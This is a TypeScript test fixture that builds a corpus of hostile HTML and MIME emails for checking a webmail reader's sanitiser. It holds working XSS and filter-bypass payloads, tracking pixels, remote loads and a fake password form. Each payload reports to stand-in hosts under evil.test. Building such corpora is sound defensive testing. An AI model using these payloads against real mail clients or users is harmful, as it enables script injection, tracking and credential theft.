// Hostile mail for the reader (issue 13): each message tries one way to run script, load something
// from elsewhere, escape the frame or hang the browser. Every payload that runs script announces it
// twice — a console line "XSS-RAN" and a request to xss.evil.test — so the runner catches it either
// way; every remote load points at *.evil.test, so the runner can tell it from the console's own.
// Delivered to a real Dovecot and opened in Chromium by tests/e2e/webmail-hostile.spec.ts; the same
// corpus runs through the parser and sanitiser in lib/mail/reader/hostile.test.ts.

const RAN = "console.log('XSS-RAN');new Image().src='http://xss.evil.test/ran'";
const REMOTE = "http://track.evil.test";

export interface HostileMessage {
  name: string;
  raw: string;
}

function html(name: string, body: string, extraHeaders = ""): HostileMessage {
  return {
    name,
    raw: [
      "From: Attacker <attacker@evil.test>",
      "To: victim@northwind.example",
      `Subject: hostile ${name}`,
      "Date: Tue, 01 Dec 2026 10:00:00 +0000",
      `Message-ID: <${name}@evil.test>`,
      "MIME-Version: 1.0",
      ...(extraHeaders ? [extraHeaders] : []),
      "Content-Type: text/html; charset=utf-8",
      "",
      `<html><body><p>${name}</p>${body}</body></html>`,
      "",
    ].join("\r\n"),
  };
}

function multipart(name: string, parts: string[], type = "multipart/related"): HostileMessage {
  const boundary = `b-${name}`;
  return {
    name,
    raw: [
      "From: Attacker <attacker@evil.test>",
      "To: victim@northwind.example",
      `Subject: hostile ${name}`,
      "Date: Tue, 01 Dec 2026 10:00:00 +0000",
      `Message-ID: <${name}@evil.test>`,
      "MIME-Version: 1.0",
      `Content-Type: ${type}; boundary="${boundary}"`,
      "",
      ...parts.flatMap((part) => [`--${boundary}`, part]),
      `--${boundary}--`,
      "",
    ].join("\r\n"),
  };
}

const part = (type: string, body: string, headers: string[] = []) =>
  [`Content-Type: ${type}`, ...headers, "", body].join("\r\n");
const b64 = (text: string) => Buffer.from(text).toString("base64");

export const HOSTILE_CORPUS: HostileMessage[] = [
  // Script elements
  html("script-inline", `<script>${RAN}</script>`),
  html("script-remote", `<script src="${REMOTE}/x.js"></script>`),
  html("script-uppercase", `<SCRIPT>${RAN}</SCRIPT>`),
  html("script-split", `<scr<script>ipt>${RAN}</scr</script>ipt>`),
  html("script-in-attribute-break", `<div title="</div><script>${RAN}</script>">x</div>`),
  html("script-comment-break", `<!--<script>--><script>${RAN}</script>`),
  // Event handlers
  html("img-onerror", `<img src="x" onerror="${RAN}">`),
  html("body-onload", `<body onload="${RAN}">b</body>`),
  html("svg-onload", `<svg onload="${RAN}"></svg>`),
  html("div-onmouseover", `<div onmouseover="${RAN}" style="width:100%;height:500px">hover</div>`),
  html("details-ontoggle", `<details open ontoggle="${RAN}"><summary>s</summary></details>`),
  html("input-autofocus", `<input autofocus onfocus="${RAN}">`),
  html("marquee-onstart", `<marquee onstart="${RAN}">m</marquee>`),
  html("video-onerror", `<video src="x" onerror="${RAN}"></video>`),
  html("style-onload", `<style onload="${RAN}"></style>`),
  // javascript: and data: URLs
  html("a-javascript", `<a href="javascript:${RAN}">click</a>`),
  html("a-javascript-entities", `<a href="&#106;avascript&#58;${RAN}">click</a>`),
  html("a-javascript-tab", `<a href="jav&#x09;ascript:${RAN}">click</a>`),
  html("iframe-javascript", `<iframe src="javascript:${RAN}"></iframe>`),
  html("a-data-html", `<a href="data:text/html;base64,${b64(`<script>${RAN}</script>`)}">click</a>`),
  html(
    "img-data-svg",
    `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN}"/>`)}">`,
  ),
  html("object-data", `<object data="data:text/html;base64,${b64(`<script>${RAN}</script>`)}"></object>`),
  // SVG and MathML
  html("svg-script", `<svg><script>${RAN}</script></svg>`),
  html("svg-foreignobject", `<svg><foreignObject><iframe src="${REMOTE}/fo"></iframe></foreignObject></svg>`),
  html("svg-use-remote", `<svg><use href="${REMOTE}/sprite.svg#a"></use></svg>`),
  html(
    "svg-animate-href",
    `<svg><a><animate attributeName="href" values="javascript:${RAN}"/><text y="20">t</text></a></svg>`,
  ),
  html("svg-image-remote", `<svg><image href="${REMOTE}/svg.png" width="10" height="10"/></svg>`),
  html("mathml-maction", `<math><maction actiontype="statusline" xlink:href="javascript:${RAN}">m</maction></math>`),
  html("mathml-mglyph-mutation", `<math><mtext><table><mglyph><style><img src=x onerror="${RAN}">`),
  html("noscript-mutation", `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`),
  // CSS
  html("css-expression", `<div style="width:expression(${RAN})">e</div>`),
  html("css-import", `<style>@import url(${REMOTE}/import.css);</style>`),
  html("css-background-remote", `<div style="background:url(${REMOTE}/bg.png);height:20px">bg</div>`),
  html("css-escaped-url", `<div style="background:\\75rl(${REMOTE}/escaped.png)">esc</div>`),
  html("css-behavior", `<div style="behavior:url(${REMOTE}/x.htc);-moz-binding:url(${REMOTE}/x.xml#a)">b</div>`),
  html("css-font-face", `<style>@font-face{font-family:x;src:url(${REMOTE}/font.woff)}body{font-family:x}</style>`),
  html("link-stylesheet", `<link rel="stylesheet" href="${REMOTE}/style.css">`),
  html(
    "link-prefetch",
    `<link rel="prefetch" href="${REMOTE}/prefetch"><link rel="dns-prefetch" href="//dns.evil.test"><link rel="preconnect" href="${REMOTE}">`,
  ),
  // Navigation
  html("meta-refresh-remote", `<meta http-equiv="refresh" content="0;url=${REMOTE}/refresh">`),
  html("meta-refresh-javascript", `<meta http-equiv="refresh" content="0;url=javascript:${RAN}">`),
  html("base-href", `<base href="${REMOTE}/"><img src="relative.png"><a href="relative">rel</a>`),
  html("a-target-top", `<a href="${REMOTE}/top" target="_top" id="go">top</a>`),
  // Forms
  html(
    "form-remote",
    `<form action="${REMOTE}/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
  ),
  html("button-formaction", `<form><button formaction="javascript:${RAN}">go</button></form>`),
  html("input-image", `<input type="image" src="${REMOTE}/input.png">`),
  // Frames, objects, embeds
  html("iframe-remote", `<iframe src="${REMOTE}/frame"></iframe>`),
  html("iframe-srcdoc", `<iframe srcdoc="<script>${RAN}</script>"></iframe>`),
  html("frameset", `<frameset><frame src="${REMOTE}/frame"></frameset>`),
  html("object-remote", `<object data="${REMOTE}/object.swf"></object>`),
  html("embed-remote", `<embed src="${REMOTE}/embed.swf">`),
  html("applet-portal", `<applet code="x" codebase="${REMOTE}/"></applet><portal src="${REMOTE}/portal"></portal>`),
  // Tracking pixels and other remote media
  html("tracking-pixel", `<img src="${REMOTE}/pixel.gif?u=victim" width="1" height="1">`),
  html("img-protocol-relative", `<img src="//track.evil.test/pr.gif">`),
  html("img-srcset", `<img srcset="${REMOTE}/srcset.png 1x" src="cid:none">`),
  html("picture-source", `<picture><source srcset="${REMOTE}/picture.png"><img src="cid:none"></picture>`),
  html(
    "table-background",
    `<table background="${REMOTE}/table.png"><tr><td background="${REMOTE}/td.png">t</td></tr></table>`,
  ),
  html(
    "video-poster-audio",
    `<video poster="${REMOTE}/poster.png"></video><audio src="${REMOTE}/a.mp3" autoplay></audio>`,
  ),
  html("a-ping", `<a href="https://example.org" ping="${REMOTE}/ping">ping</a>`),
  // cid spoofing: a cid: that names an HTML or SVG part, or nothing, must not become loadable
  multipart("cid-html-part", [
    part("text/html; charset=utf-8", `<p>cid</p><img src="cid:page@evil"><iframe src="cid:page@evil"></iframe>`),
    part("text/html", `<script>${RAN}</script>`, ["Content-ID: <page@evil>"]),
  ]),
  multipart("cid-svg-part", [
    part("text/html; charset=utf-8", `<p>cid</p><img src="cid:svg@evil">`),
    part("image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN}"><script>${RAN}</script></svg>`, [
      "Content-ID: <svg@evil>",
    ]),
  ]),
  html("cid-javascript", `<img src="cid:javascript:${RAN}"><a href="cid:x">c</a>`),
  // Malformed MIME
  {
    name: "mime-no-closing-boundary",
    raw: multipart("mime-no-closing-boundary", [
      part("text/html", `<img src="${REMOTE}/m1.png" onerror="${RAN}">`),
    ]).raw.replace(/--b-mime-no-closing-boundary--\r\n$/, ""),
  },
  multipart(
    "mime-broken-base64",
    [
      part("text/html", "PHNjcmlwdD5jb25zb2xlLmxvZygnWFNTLVJBTicpPC9zY3JpcHQ+!!!not base64***", [
        "Content-Transfer-Encoding: base64",
      ]),
    ],
    "multipart/alternative",
  ),
  html("mime-bad-charset", `<img src=x onerror="${RAN}">\u00ff\u00fe`, "X-Note: charset is a lie"),
  {
    name: "mime-header-injection",
    raw: html("mime-header-injection", `<p>h</p>`).raw.replace(
      "Subject: hostile mime-header-injection",
      "Subject: hostile mime-header-injection\r\n =?utf-8?b?PHNjcmlwdD4=?=",
    ),
  },
  multipart(
    "mime-nested-deep",
    [
      part(
        'multipart/mixed; boundary="inner"',
        ["--inner", part("text/html", `<svg/onload=${RAN}>`), "--inner--"].join("\r\n"),
      ),
    ],
    "multipart/mixed",
  ),
  // Huge and deeply nested
  html("huge-html", `<table>${"<tr><td>row</td><td><b>bold</b> text</td></tr>".repeat(80_000)}</table>`),
  html("deep-nesting", `${"<div>".repeat(20_000)}deep${"</div>".repeat(20_000)}`),
  html("many-images", Array.from({ length: 2_000 }, (_, index) => `<img src="${REMOTE}/many/${index}.png">`).join("")),
];
